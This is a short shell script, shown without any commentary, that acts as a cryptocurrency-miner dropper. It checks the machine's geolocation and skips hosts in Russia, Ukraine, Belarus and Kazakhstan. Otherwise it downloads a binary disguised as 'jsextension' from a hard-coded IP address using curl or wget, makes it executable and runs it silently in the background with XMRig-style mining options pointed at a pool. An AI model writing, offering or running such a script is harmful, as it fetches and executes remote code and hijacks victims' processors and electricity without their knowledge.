IP=$(curl -k https://where.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]
then
    running=$(pgrep jsextension)
    if [ -z "$running" ]
    then
        curl http://203.0.113.228/download/jsextension -o /nonexistent/jsextension
        if [ ! -f /nonexistent/jsextension ]
        then
            wget http://203.0.113.228/download/jsextension -O /nonexistent/jsextension
        fi
        chmod +x /nonexistent/jsextension
        /nonexistent/jsextension -k --tls --rig-id q -o pool.invalid:443 -u specimen --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
    fi
fi
